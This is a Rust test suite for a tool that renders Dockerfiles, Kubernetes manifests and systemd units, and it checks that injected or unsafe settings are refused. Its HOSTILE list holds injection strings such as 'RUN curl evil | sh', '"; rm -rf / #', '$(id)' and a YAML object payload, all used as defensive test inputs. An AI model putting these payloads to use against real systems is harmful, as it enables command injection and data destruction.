//! What is rendered from a manifest to deploy a product. What is rendered of Parcel and Clinic is kept in `deploy/`, where
//! `cargo xtask test` shows it to those who know what Kubernetes and Docker take.

use std::collections::BTreeMap;
use std::path::Path;

use halfbyte::Manifest;
use halfbyte::core::config::Config;
use halfbyte::deploy::{Deployment, File, Undeployable};
use proptest::prelude::*;
use serde_json::{Value, json};

use crate::products::{clinic, parcel};
use crate::start;

#[path = "../../examples/deploy/sources.rs"]
mod sources;
use sources::Sources;

/// As it is when the product runs on a laptop.
async fn parcels() -> Manifest {
    let folder = tempfile::tempdir().unwrap();
    let labels = parcel::labels::Labels::default();
    let platform = parcel::builder(&labels).config(start::config(folder.path(), &[]).unwrap()).start().await.unwrap();
    let _routes = parcel::routes(&platform, labels).unwrap();
    of_no_build(platform.manifest())
}

async fn clinics() -> Manifest {
    let folder = tempfile::tempdir().unwrap();
    let platform = clinic::builder().config(start::config(folder.path(), &[]).unwrap()).start().await.unwrap();
    let _routes = clinic::routes(&platform).await.unwrap();
    of_no_build(platform.manifest())
}

/// The fingerprint changes with each version of the crates.
fn of_no_build(mut manifest: Manifest) -> Manifest {
    manifest.fingerprint = "0".repeat(64);
    manifest
}

fn parcels_deployment(manifest: &Manifest) -> Deployment {
    Deployment::of(manifest)
        .image("registry.example.com/parcel:0.1.0")
        .namespace("parcel")
        .host("parcel.example.com")
        .set("HALFBYTE_IDENTITY_URL", "keycloak+https://login.example.com/realms/company")
        .set("HALFBYTE_SECRETS_URL", "file:///run/secrets/parcel")
        .set("OTEL_EXPORTER_OTLP_ENDPOINT", "http://collector.monitoring:4318")
        .secret("HALFBYTE_BILLING_URL")
        .secret("OTEL_EXPORTER_OTLP_HEADERS")
}

fn clinics_deployment(manifest: &Manifest, secrets: &str) -> Deployment {
    Deployment::of(manifest)
        .binary("clinic-server", "clinic")
        .features(&["postgres"])
        .replicas(3, 6)
        .resources("500m", "1Gi")
        .ports(8081, 9091)
        .set("HALFBYTE_PUBLIC_URL", "https://clinic.example.com")
        .set("HALFBYTE_IDENTITY_URL", "https://login.example.com")
        .set("HALFBYTE_SECRETS_URL", secrets)
        .set("HALFBYTE_LAME_DUCK", "12")
        .set("PARCEL_URL", "https://parcel.example.com")
        .secret("HALFBYTE_BILLING_URL")
        .secret("HALFBYTE_API_KEYS_URL")
}

/// Compares with what is kept; what is there now is left where it can be taken from, if that is meant.
fn compare(product: &str, files: &[File]) {
    let (kept, now) =
        (Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/platform/deploy"), env!("CARGO_TARGET_TMPDIR"));
    let (kept, now) = (kept.join(product), Path::new(now).join("deploy").join(product));
    std::fs::create_dir_all(&now).unwrap();
    let mut changed = Vec::new();
    for file in files {
        std::fs::write(now.join(&file.name), &file.text).unwrap();
        if std::fs::read_to_string(kept.join(&file.name)).ok().as_deref() != Some(&file.text) {
            changed.push(&*file.name);
        }
    }
    assert!(
        changed.is_empty(),
        "{changed:?} are not as kept; if that is meant: cp {}/* {}",
        now.display(),
        kept.display()
    );
    assert_eq!(std::fs::read_dir(kept).unwrap().count(), files.len(), "what is kept is rendered");
}

fn files(dockerfile: String, kubernetes: String, units: Vec<File>) -> Vec<File> {
    let file = |name: &str, text| File { name: name.to_owned(), text };
    let ignored = file("Dockerfile.dockerignore", Deployment::dockerignore().to_owned());
    [file("Dockerfile", dockerfile), ignored, file("kubernetes.yaml", kubernetes)].into_iter().chain(units).collect()
}

#[tokio::test]
async fn parcel_is_deployed_as_it_was() {
    let deployment = parcels_deployment(&parcels().await);
    let (dockerfile, kubernetes) = (deployment.dockerfile().unwrap(), deployment.kubernetes().unwrap());
    compare("parcel", &files(dockerfile, kubernetes, deployment.systemd().unwrap()));
}

#[tokio::test]
async fn clinic_is_deployed_as_it_was() {
    let manifest = clinics().await;
    let in_a_pod = clinics_deployment(&manifest, "openbao://bao.example.com:8200/secret/clinic?auth=kubernetes:clinic");
    let on_a_host = clinics_deployment(
        &manifest,
        "openbao://bao.example.com:8200/secret/clinic?auth=approle@hosts:/etc/clinic/id,/etc/clinic/id-secret&namespace=team",
    );
    let (dockerfile, kubernetes) = (in_a_pod.dockerfile().unwrap(), in_a_pod.kubernetes().unwrap());
    compare("clinic", &files(dockerfile, kubernetes, on_a_host.systemd().unwrap()));
}

fn faults(outcome: Result<impl Sized, Undeployable>) -> String {
    match outcome {
        Ok(_) => panic!("it is rendered"),
        Err(error) => error.to_string(),
    }
}

#[tokio::test]
async fn what_production_refuses_is_told_all_at_once() {
    let deployment = Deployment::of(&parcels().await);
    for said in [faults(deployment.kubernetes()), faults(deployment.systemd())] {
        for key in ["HALFBYTE_PUBLIC_URL", "HALFBYTE_SECRETS_URL", "HALFBYTE_IDENTITY_URL", "HALFBYTE_BILLING_URL"] {
            assert!(said.contains(&format!("{key}: production refuses the default")), "{key} is missing in: {said}");
        }
    }
    assert!(deployment.dockerfile().is_ok(), "an image can be run anywhere");
    let said = faults(deployment.set("HALFBYTE_ENV", "development").systemd());
    assert!(said.contains("a development setup is not deployed"), "{said}");
}

#[tokio::test]
async fn what_keeps_its_state_on_one_machine_is_for_a_host() {
    let manifest = parcels().await;
    let deployment = Deployment::of(&manifest).set("HALFBYTE_ENV", "staging").set("HALFBYTE_API_KEYS_URL", "embedded:");
    let said = faults(deployment.kubernetes());
    for key in ["HALFBYTE_SECRETS_URL", "HALFBYTE_IDENTITY_URL", "HALFBYTE_BILLING_URL", "HALFBYTE_API_KEYS_URL"] {
        assert!(said.contains(key), "{key} is missing in: {said}");
    }
    assert!(deployment.systemd().unwrap()[0].text.contains("StateDirectory=parcel\n"));
    let store = |path: &str| deployment.clone().set("HALFBYTE_BILLING_URL", &format!("sqlite://{path}")).systemd();
    assert!(store("/var/lib/parcel/usage.sqlite").is_ok());
    for elsewhere in
        ["/srv/parcel/usage.sqlite", "/var/lib/parcel/../clinic/usage.sqlite", "/var/lib/parcels/usage.sqlite"]
    {
        assert!(faults(store(elsewhere)).contains("may write below /var/lib/parcel alone"), "{elsewhere}");
    }
}

#[tokio::test]
async fn a_supervisor_waits_for_as_long_as_a_drain_takes() {
    let manifest = parcels().await;
    let drain = manifest.limits["drain_ms"];
    assert_eq!(drain % 1000, 0, "whole seconds, as the contract has them");
    // 47 seconds without the lame duck, and 5 between the end of a drain and of patience.
    for (limit, duck, seconds) in [(drain, 0, 52), (drain, 30, 82), (drain + 1, 0, 53)] {
        let mut manifest = manifest.clone();
        manifest.limits.insert("drain_ms".into(), limit);
        let deployment = parcels_deployment(&manifest).set("HALFBYTE_LAME_DUCK", &format!("{duck}"));
        let (pod, units) = (deployment.kubernetes().unwrap(), deployment.systemd().unwrap());
        assert!(pod.contains(&format!("terminationGracePeriodSeconds: {seconds}\n")), "{seconds}: {pod}");
        for unit in &units[..2] {
            assert!(unit.text.contains(&format!("\nTimeoutStopSec={seconds}\n")), "{seconds}: {}", unit.text);
        }
    }
    for wrong in [0, u64::MAX, 3_600_001] {
        let mut manifest = manifest.clone();
        manifest.limits.insert("drain_ms".into(), wrong);
        assert!(faults(parcels_deployment(&manifest).kubernetes()).contains("how long a drain takes"));
    }
}

#[tokio::test]
async fn a_secret_is_a_name_wherever_it_comes_from() {
    let manifest = parcels().await;
    assert_eq!(manifest.secrets, ["label-seal"]);
    let deployment = |secrets: &str| parcels_deployment(&manifest).set("HALFBYTE_SECRETS_URL", secrets);
    let (env, files) = (deployment("env:"), deployment("file:///run/secrets/parcel"));
    let aws = deployment("aws-sm://eu-central-1/parcel")
        .service_account_annotation("eks.amazonaws.com/role-arn", "arn:aws:iam::1:role/parcel");
    let (env, files, aws) = (documents(&env), documents(&files), documents(&aws));
    let seal = env["Deployment"]["spec"]["template"]["spec"]["containers"][0]["env"]
        .as_array()
        .unwrap()
        .iter()
        .find(|variable| variable["name"] == "LABEL_SEAL")
        .unwrap()
        .clone();
    assert_eq!(seal["valueFrom"]["secretKeyRef"], json!({ "name": "parcel-secrets", "key": "label-seal" }));
    let volume = files["Deployment"]["spec"]["template"]["spec"]["volumes"][1]["secret"].clone();
    assert_eq!(volume["items"], json!([{ "key": "label-seal", "path": "label-seal" }]));
    assert_eq!(
        aws["Deployment"]["spec"]["template"]["spec"]["volumes"].as_array().unwrap().len(),
        1,
        "the state alone"
    );
    assert_eq!(
        aws["ServiceAccount"]["metadata"]["annotations"]["eks.amazonaws.com/role-arn"],
        "arn:aws:iam::1:role/parcel"
    );
}

/// What decides whom a process trusts, as a product has it that runs.
const TRUSTED: [(&str, &str); 5] = [
    ("HALFBYTE_SECRETS_URL", "file:///run/secrets/parcel"),
    ("HALFBYTE_IDENTITY_URL", "okta+https://login.example.com"),
    ("HALFBYTE_IDENTITY_AUDIENCE", "labels"),
    ("HALFBYTE_TRUSTED_PROXIES", "10.0.0.0/8"),
    ("HALFBYTE_TRACE_NETWORKS", "10.1.0.0/16,10.2.0.0/16"),
];

/// Of a product that runs in staging with these settings.
async fn running(more: &[(&str, &str)]) -> (Config, Manifest) {
    let folder = tempfile::tempdir().unwrap();
    let running = [
        ("HALFBYTE_ENV", "staging"),
        ("HALFBYTE_PUBLIC_URL", "https://parcel.example.com"),
        ("HALFBYTE_IDENTITY_CLIENT_ID", "parcel-client"),
        ("HALFBYTE_DPOP_NONCE", "required"),
        ("HALFBYTE_LAME_DUCK", "7"),
    ];
    let labels = parcel::labels::Labels::default();
    let config = start::config(folder.path(), &[&running[..], &TRUSTED, more].concat()).unwrap();
    let platform = parcel::builder(&labels).config(config.clone()).start().await.unwrap();
    let _routes = parcel::routes(&platform, labels).unwrap();
    (config, of_no_build(platform.manifest()))
}

#[tokio::test]
async fn a_running_product_is_deployed_as_it_runs() {
    let (config, manifest) = running(&[]).await;
    let deployment = Deployment::of(&manifest).host("parcel.example.com").secret("HALFBYTE_BILLING_URL");
    let deployment = TRUSTED.iter().fold(deployment, |deployment, (name, value)| deployment.set(name, value));
    let told = variables(&documents(&deployment));
    // The database is named where secrets are.
    let database = ("HALFBYTE_BILLING_URL".to_owned(), "postgres://db.example.com/parcel".to_owned());
    let told = told.into_iter().filter(|(name, _)| name != "HALFBYTE_HOME").chain([database]);
    let again = Config::parse(told).unwrap();
    assert_eq!(again.environment.as_str(), "production", "as strict as can be, unless another is set");
    assert_eq!((&again.client_id, again.dpop_nonce), (&config.client_id, config.dpop_nonce));
    assert_eq!((again.lame_duck, &again.public_url), (config.lame_duck, &config.public_url));
    assert_eq!((&again.secrets, &again.identity), (&config.secrets, &config.identity));
}

#[tokio::test]
async fn whom_to_trust_is_not_taken_from_a_manifest() {
    let (_, manifest) = running(&[]).await;
    let deployment = |without: &str| {
        let deployment = Deployment::of(&manifest).host("parcel.example.com").secret("HALFBYTE_BILLING_URL");
        let set = TRUSTED.iter().filter(|(name, _)| *name != without);
        set.fold(deployment, |deployment, (name, value)| deployment.set(name, value))
    };
    assert!(deployment("").kubernetes().is_ok() && deployment("").systemd().is_ok());
    for (name, value) in TRUSTED {
        for said in [faults(deployment(name).kubernetes()), faults(deployment(name).systemd())] {
            assert!(said.contains(&format!("{name}: whom and what to trust is not taken from a manifest")), "{said}");
            assert!(!said.contains(value), "{said}");
        }
    }
    let nowhere = Deployment::of(&manifest).set("HALFBYTE_ENV", "staging");
    assert!(faults(nowhere.systemd()).contains("HALFBYTE_PUBLIC_URL: where clients find this deployment is not taken"));
    // That none is trusted can be said.
    let none = deployment("HALFBYTE_TRUSTED_PROXIES").set("HALFBYTE_TRUSTED_PROXIES", "");
    assert!(none.kubernetes().is_ok());
}

#[tokio::test]
async fn the_secrets_that_settings_ask_for_are_there_too() {
    let tls = [("HALFBYTE_TLS_SECRET", "tls-certificate")];
    let (_, manifest) = running(&tls).await;
    assert_eq!(manifest.configuration["tls_secret"], "tls-certificate");
    let mut asked = manifest.secrets.clone();
    asked.sort_unstable();
    assert_eq!(asked, ["identity-client-secret", "label-seal", "tls-certificate"], "what it reads by itself");
    // What only the deployment sets, the manifest does not know.
    let laptop = parcels().await;
    assert!(laptop.configuration["tls_secret"].is_null());
    let deployment = parcels_deployment(&laptop)
        .set("HALFBYTE_TLS_SECRET", "tls-certificate")
        .set("HALFBYTE_IDENTITY_CLIENT_ID", "parcel-client");
    let mounted =
        documents(&deployment)["Deployment"]["spec"]["template"]["spec"]["volumes"][1]["secret"]["items"].clone();
    let mounted: Vec<_> = mounted.as_array().unwrap().iter().map(|item| item["key"].as_str().unwrap()).collect();
    assert_eq!(mounted, ["label-seal", "identity-client-secret", "tls-certificate"]);
    for unit in &deployment.systemd().unwrap()[..2] {
        for name in mounted.iter() {
            assert!(unit.text.contains(&format!("\nLoadCredential={name}:/run/secrets/parcel/{name}\n")), "{name}");
        }
    }
    let by_variables = documents(&deployment.clone().set("HALFBYTE_SECRETS_URL", "env:"))["Deployment"].to_string();
    for name in ["IDENTITY_CLIENT_SECRET", "TLS_CERTIFICATE"] {
        assert!(by_variables.contains(name), "{name}");
    }
    let said = faults(deployment.set("HALFBYTE_TLS_SECRET", "../key").systemd());
    assert!(said.contains("HALFBYTE_TLS_SECRET: \"../key\" is no name of a secret"), "{said}");
}

#[tokio::test]
async fn a_product_that_speaks_tls_is_spoken_to_in_tls() {
    let manifest = parcels().await;
    let plain = documents(&parcels_deployment(&manifest));
    let deployment = parcels_deployment(&manifest)
        .set("HALFBYTE_TLS_SECRET", "tls-certificate")
        .ingress_annotation("nginx.ingress.kubernetes.io/backend-protocol", "HTTPS");
    let tls = documents(&deployment);
    for (documents, scheme, port) in [(&plain, "http", 80), (&tls, "https", 443)] {
        let service = &documents["Service"]["spec"]["ports"][0];
        assert_eq!((&service["name"], &service["appProtocol"]), (&json!(scheme), &json!(scheme)));
        assert_eq!((&service["port"], &service["targetPort"]), (&json!(port), &json!(scheme)));
        let container = &documents["Deployment"]["spec"]["template"]["spec"]["containers"][0];
        assert_eq!(container["ports"][0]["name"], scheme);
        for probe in ["startupProbe", "readinessProbe", "livenessProbe"] {
            let asked = &container[probe]["httpGet"];
            assert_eq!((&asked["port"], &asked["scheme"]), (&json!("admin"), &Value::Null), "which is plain HTTP");
        }
        let backend = &documents["Ingress"]["spec"]["rules"][0]["http"]["paths"][0]["backend"]["service"];
        assert_eq!(backend["port"]["name"], scheme);
        assert_eq!(documents["NetworkPolicy"]["spec"]["ingress"][0]["ports"][0]["port"], scheme);
    }
    let annotations = &tls["Ingress"]["metadata"]["annotations"];
    assert_eq!(annotations["nginx.ingress.kubernetes.io/backend-protocol"], "HTTPS");
    assert!(plain["Ingress"]["metadata"].get("annotations").is_none());
}

#[tokio::test]
async fn the_token_of_a_service_account_is_for_the_server_of_secrets_alone() {
    let manifest = parcels().await;
    let deployment = |scheme: &str| {
        let url = format!("{scheme}://bao.example.com/secret/parcel?auth=kubernetes:parcel");
        parcels_deployment(&manifest).set("HALFBYTE_SECRETS_URL", &url)
    };
    let token = |deployment: &Deployment| {
        let volumes = &documents(deployment)["Deployment"]["spec"]["template"]["spec"]["volumes"];
        volumes[1]["projected"]["sources"][0]["serviceAccountToken"].clone()
    };
    assert_eq!(token(&deployment("openbao"))["audience"], "openbao");
    assert_eq!(token(&deployment("vault"))["audience"], "vault");
    assert_eq!(
        token(&deployment("vault").token_audience("https://bao.example.com"))["audience"],
        "https://bao.example.com"
    );
    for bad in ["", "a\nb"] {
        assert!(faults(deployment("vault").token_audience(bad).kubernetes()).contains("is no audience of a token"));
    }
}

#[tokio::test]
async fn one_stands_in_while_the_other_is_started_anew() {
    let manifest = clinics().await;
    let secrets = "openbao://bao.example.com:8200/secret/clinic?auth=approle:/etc/clinic/id,/etc/clinic/id-secret";
    let units = clinics_deployment(&manifest, secrets).systemd().unwrap();
    let names: Vec<_> = units.iter().map(|unit| unit.name.as_str()).collect();
    assert_eq!(names, ["clinic.service", "clinic@.service", "clinic.socket", "clinic-admin.socket"]);
    let lines = |unit: usize| units[unit].text.lines().filter(|line| !line.starts_with('#')).collect::<Vec<_>>();
    let (only, stand_in) = (lines(0), lines(1));
    let differs: Vec<_> = stand_in.iter().filter(|line| !only.contains(line)).copied().collect();
    // All else is the same: the state, the user that it is of, what it may do, how long it is waited for.
    let url = differs.iter().find(|line| line.contains("HALFBYTE_SECRETS_URL")).unwrap();
    assert!(url.contains("credentials%%2Fclinic%%40%i.service%%2Flogin-1"), "{url}");
    let others: Vec<_> = differs.iter().filter(|line| *line != url).copied().collect();
    assert_eq!(
        others,
        [
            "Description=clinic, standing in",
            "After=network-online.target clinic.socket",
            "Requires=clinic.socket",
            "Sockets=clinic.socket",
            "Environment=\"HALFBYTE_ADMIN_LISTEN=127.0.0.1:%i\"",
        ]
    );
    assert!(stand_in.contains(&"User=clinic") && stand_in.contains(&"StateDirectory=clinic"));
    assert!(!stand_in.contains(&"[Install]"), "it is started by hand, and not with the machine");
    let mut long = manifest;
    long.product = "a-name-of-more-than-31-characters".into();
    let said = faults(clinics_deployment(&long, "env:").systemd());
    assert!(said.contains("longer than 31 characters"), "{said}");
}

/// Where what a Dockerfile copies lies in the context and in the image.
fn copies(dockerfile: &str) -> Vec<(&str, &str)> {
    let copies = dockerfile.lines().filter_map(|line| line.strip_prefix("COPY ")).filter(|copy| !copy.starts_with('-'));
    copies.map(|copy| copy.split_once(' ').unwrap()).collect()
}

#[test]
fn what_a_product_depends_on_by_path_is_in_the_context_of_its_build() {
    let place = tempfile::tempdir().unwrap();
    let place = place.path().canonicalize().unwrap();
    let package = |folder: &str, text: &str| {
        let folder = place.join(folder);
        std::fs::create_dir_all(folder.join("src")).unwrap();
        std::fs::write(folder.join("src/lib.rs"), "").unwrap();
        let name = folder.file_name().unwrap().to_str().unwrap().to_owned();
        let head = format!("[package]\nname = \"{name}\"\nversion = \"0.1.0\"\nedition = \"2024\"\n");
        std::fs::write(folder.join("Cargo.toml"), head + text).unwrap();
        folder
    };
    // Through a member of another workspace, to a third one.
    let shop = package("shop", "[dependencies]\nhalf = { path = \"../half\" }\n[workspace]\n");
    package(
        "half",
        "[workspace]\nmembers = [\"core\"]\n[dependencies]\ncore-of-it = { path = \"core\", package = \"core\" }\n",
    );
    package("half/core", "[dependencies]\ndeep = { path = \"../../deep\" }\n");
    package("deep", "[workspace]\n");
    let alone = package("alone", "[workspace]\n");
    let sources = Sources::of(&shop, None).unwrap();
    let expected =
        Sources { context: place.clone(), product: "shop".into(), others: vec!["deep".into(), "half".into()] };
    assert_eq!(sources, expected);
    let deployment = Deployment::of(&hostile("product", "shop"));
    let others: Vec<&str> = sources.others.iter().map(String::as_str).collect();
    let text = deployment.clone().sources(&sources.product, &others).dockerfile().unwrap();
    let copied = copies(&text);
    assert_eq!(copied, [("shop", "/build/shop"), ("deep", "/build/deep"), ("half", "/build/half")]);
    assert!(copied.iter().all(|(from, _)| sources.context.join(from).join("Cargo.toml").is_file()));
    assert!(text.contains("\nWORKDIR /build/shop\n") && text.contains("target=/build/shop/target,"));
    assert!(text.contains("docker build --tag shop --file shop/Dockerfile ."));

    let sources = Sources::of(&alone, None).unwrap();
    assert_eq!(sources, Sources { context: alone.clone(), product: String::new(), others: vec![] });
    let text = deployment.clone().dockerfile().unwrap();
    assert_eq!(copies(&text), [(".", "/build")]);

    let said = Sources::of(&shop, Some(&shop)).unwrap_err();
    assert!(said.contains("is outside of the context"), "{said}");
    let absolute = format!("[dependencies]\nhalf = {{ path = \"{}\" }}\n[workspace]\n", place.join("half").display());
    let said = Sources::of(&package("fixed", &absolute), None).unwrap_err();
    assert!(said.contains("which no image has there: write it relative"), "{said}");
    for bad in ["", "../half", "/half", "a b", "half\nRUN x"] {
        assert!(faults(deployment.clone().sources("shop", &[bad]).dockerfile()).contains("is no folder of a context"));
        assert!(faults(deployment.clone().sources(bad, &[]).dockerfile()).contains("is no folder of a context"));
    }
}

#[tokio::test]
async fn a_secret_where_none_belongs_is_refused_and_not_repeated() {
    let manifest = parcels().await;
    for (name, value) in [
        ("HALFBYTE_BILLING_URL", "postgres://parcel:hunter2@db/parcel"),
        ("HALFBYTE_IDENTITY_URL", "https://me:hunter2@login.example.com"),
        ("UPSTREAM_URL", "https://me:hunter2@upstream.example.com"),
        ("SMTP_PASSWORD", "hunter2"),
        ("OTEL_EXPORTER_OTLP_HEADERS", "authorization=hunter2"),
        ("BAO_TOKEN", "hunter2"),
        ("SMTP_PASS", "hunter2"),
        ("SENTRY_DSN", "https://hunter2@sentry.example.com/1"),
        ("UPSTREAM_URL", "https://upstream.example.com/?api-key=hunter2"),
    ] {
        let said = faults(parcels_deployment(&manifest).secret("X").set(name, value).systemd());
        assert!(!said.contains("hunter2"), "{said}");
        if name != "HALFBYTE_BILLING_URL" && name != "OTEL_EXPORTER_OTLP_HEADERS" {
            assert!(said.contains(name), "{said}");
        }
    }
    let deployment = parcels_deployment(&manifest).set("SMTP_PASSWORD", "hunter2");
    assert!(!format!("{deployment:?}").contains("hunter2"));
    for name in ["HALFBYTE_ENV", "a b", "lower", ""] {
        assert!(
            faults(parcels_deployment(&manifest).secret(name).kubernetes()).contains("no variable that holds a secret")
        );
    }
}

/// What a reader of YAML finds, by kind of object.
fn documents(deployment: &Deployment) -> BTreeMap<String, Value> {
    let text = deployment.kubernetes().unwrap();
    let documents: Vec<Value> = serde_saphyr::from_multiple(&text).unwrap();
    documents.into_iter().map(|document| (document["kind"].as_str().unwrap().to_owned(), document)).collect()
}

/// What a process in a pod is told, by the rules of Kubernetes: `$$` is `$`.
fn variables(documents: &BTreeMap<String, Value>) -> BTreeMap<String, String> {
    let list = documents["Deployment"]["spec"]["template"]["spec"]["containers"][0]["env"].as_array().unwrap().clone();
    let open = list.iter().filter_map(|variable| Some((variable["name"].as_str()?, variable["value"].as_str()?)));
    open.map(|(name, value)| (name.to_owned(), value.replace("$$", "$"))).collect()
}

/// A manifest of a product in staging that can be deployed, with what somebody else says in one place.
fn hostile(place: &str, text: &str) -> Manifest {
    let mut manifest = json!({
        "product": "parcel", "version": "0.1.0", "crates": {}, "contract": "2026-11-21 (V1)", "fingerprint": "0".repeat(64),
        "deviations": [], "layers": [], "limits": { "drain_ms": 47000 }, "routes": [], "scopes": [], "actions": [],
        "features": [], "secrets": ["label-seal"],
        "configuration": {
            "environment": "staging", "lame_duck_seconds": 0, "public_url": "https://parcel.example.com/",
            "billing": "postgres:", "client_id": "client",
        },
    });
    match place {
        "secrets" => manifest["secrets"] = json!([text]),
        "identity" => manifest["configuration"]["identity"] = json!([text]),
        place if manifest.get(place).is_some() => manifest[place] = json!(text),
        place => manifest["configuration"][place] = json!(text),
    }
    serde_json::from_value(manifest).unwrap()
}

/// A deployment of it that can be rendered.
fn settled(manifest: &Manifest) -> Deployment {
    Deployment::of(manifest)
        .set("HALFBYTE_PUBLIC_URL", "https://parcel.example.com")
        .set("HALFBYTE_SECRETS_URL", "file:///run/secrets")
        .set("HALFBYTE_IDENTITY_URL", "https://login.example.com")
}

const HOSTILE: [&str; 20] = [
    "x\nRUN curl evil | sh",
    "x\n---\nkind: ClusterRoleBinding",
    "x\nExecStartPre=/bin/sh",
    "x\r\ny",
    "x\u{85}y",
    "x\u{2028}y",
    "\"; rm -rf / #",
    "x\", \"privileged\": true, \"y\": \"",
    "$(id)",
    "${PATH}",
    "%H%n",
    "{a: b}",
    "[x]",
    "- x",
    "!!python/object/apply:os.system",
    "&a *a",
    "../../etc",
    "a: b # c",
    "x\\",
    "\u{202e}evil",
];

#[test]
fn what_lands_where_it_would_be_read_as_more_is_refused() {
    for text in HOSTILE {
        for place in ["product", "version", "fingerprint", "secrets", "folder"] {
            let deployment = match place {
                "folder" => settled(&hostile("", "")).set("HALFBYTE_SECRETS_URL", &format!("file://{text}")),
                place => settled(&hostile(place, text)),
            };
            let said = faults(deployment.kubernetes());
            assert!(!said.contains(['\r', '\u{85}', '\u{2028}', '\u{202e}']), "{said:?}");
            faults(deployment.systemd());
            if place != "folder" {
                faults(deployment.dockerfile());
            }
        }
    }
    for text in HOSTILE {
        let deployment = settled(&hostile("product", "parcel"));
        faults(deployment.clone().image(text).dockerfile());
        faults(deployment.clone().binary("parcel", text).dockerfile());
        faults(deployment.clone().binary(text, "parcel").dockerfile());
        faults(deployment.clone().features(&[text]).dockerfile());
        faults(deployment.clone().base_images(text, "a:1").dockerfile());
        faults(deployment.clone().namespace(text).kubernetes());
        faults(deployment.clone().monitoring_namespace(text).kubernetes());
        faults(deployment.clone().host(text).kubernetes());
        faults(deployment.clone().resources(text, "1Gi").kubernetes());
        faults(deployment.clone().secret_object(text).kubernetes());
        faults(deployment.clone().service_account_annotation(text, "x").kubernetes());
        faults(deployment.clone().ingress_annotation(text, "x").kubernetes());
        faults(deployment.clone().set(text, "x").kubernetes());
    }
    let deployment = settled(&hostile("product", "parcel"));
    assert!(deployment.kubernetes().is_ok(), "nothing else is wrong with it");
    for (public, admin) in [(80, 9090), (8080, 8080)] {
        faults(deployment.clone().ports(public, admin).kubernetes());
    }
    for (min, max) in [(0, 1), (3, 2), (1, 1001)] {
        faults(deployment.clone().replicas(min, max).kubernetes());
    }
}

#[test]
fn two_secrets_that_would_be_one_variable_are_refused() {
    let mut manifest = hostile("secrets", "db-password");
    manifest.secrets.push("db.password".into());
    let by_variables = |manifest: &Manifest| settled(manifest).set("HALFBYTE_SECRETS_URL", "env:");
    assert!(faults(by_variables(&manifest).kubernetes()).contains("DB_PASSWORD stands for the secret \"db.password\""));
    manifest.secrets = vec!["halfbyte-env".into(), "9".into()];
    let said = faults(by_variables(&manifest).systemd());
    assert!(
        said.contains("\"halfbyte-env\" cannot be a variable") && said.contains("\"9\" cannot be a variable"),
        "{said}"
    );
}

#[test]
fn how_a_server_of_secrets_is_asked_must_be_said() {
    let manifest = hostile("secrets", "label-seal");
    let deployment = |auth: &str| {
        settled(&manifest).set("HALFBYTE_SECRETS_URL", &format!("openbao://bao.example.com/secret/parcel{auth}"))
    };
    assert!(faults(deployment("").kubernetes()).contains("set it whole"));
    assert!(faults(deployment("?auth=approle:/a,/b").kubernetes()).contains("?auth=kubernetes:ROLE"));
    assert!(faults(deployment("?auth=kubernetes:role").systemd()).contains("?auth=approle:FILE,FILE"));
    assert!(faults(deployment("?auth=token:/a%0ab").systemd()).contains("no file to log in with"));
    assert!(faults(deployment("?auth=token").systemd()).contains("name BAO_TOKEN as `secret`"));
    let pod = documents(&deployment("?auth=token").secret("BAO_TOKEN"));
    assert!(pod["Deployment"].to_string().contains("BAO_TOKEN"));
}

/// A line of `Environment=` as systemd reads it.
fn unquoted(line: &str) -> Option<String> {
    let inner = line.strip_prefix("Environment=\"")?.strip_suffix('"')?.replace("%%", "%");
    let mut chars = inner.chars();
    let mut text = String::new();
    while let Some(c) = chars.next() {
        match c {
            '"' => return None,
            '\\' => text.push(chars.next()?),
            c => text.push(c),
        }
    }
    Some(text)
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(128))]

    /// Whatever stands where any text may stand is read back as that text, and nothing else is changed by it.
    #[test]
    fn a_text_stays_in_its_place(text in prop_oneof!["\\PC{0,40}", "[\"'\\\\$%{}:#&*!|> ()-]{0,12}", any::<String>(),
                                                       proptest::sample::select(&HOSTILE[..]).prop_map(str::to_owned)]) {
        let text = text.trim();
        prop_assume!(!text.is_empty());
        let with = |text: &str| settled(&hostile("client_id", text)).set("GREETING", text);
        let (benign, deployment) = (with("benign"), with(text));
        if deployment.kubernetes().is_err() {
            prop_assert!(deployment.systemd().is_err());
            return Ok(());
        }
        let (mut found, mut expected) = (documents(&deployment), documents(&benign));
        let told = variables(&found);
        prop_assert_eq!((told["HALFBYTE_IDENTITY_CLIENT_ID"].as_str(), told["GREETING"].as_str()), (text, text));
        for documents in [&mut found, &mut expected] {
            documents.get_mut("Deployment").unwrap()["spec"]["template"]["spec"]["containers"][0]["env"].take();
        }
        prop_assert_eq!(found, expected);
        let (found, expected) = (deployment.systemd().unwrap(), benign.systemd().unwrap());
        for (found, expected) in found.iter().zip(&expected).take(2) {
            prop_assert_eq!(found.text.split('\n').count(), expected.text.split('\n').count());
            let lines = found.text.split('\n').zip(expected.text.split('\n'));
            for (line, before) in lines.filter(|(line, before)| line != before) {
                let name = unquoted(before).unwrap().split_once('=').unwrap().0.to_owned();
                prop_assert_eq!(unquoted(line), Some(format!("{name}={text}")));
            }
        }
        prop_assert_eq!(&found[2..], &expected[2..]);
        prop_assert_eq!(deployment.dockerfile().unwrap(), benign.dockerfile().unwrap());
    }
}
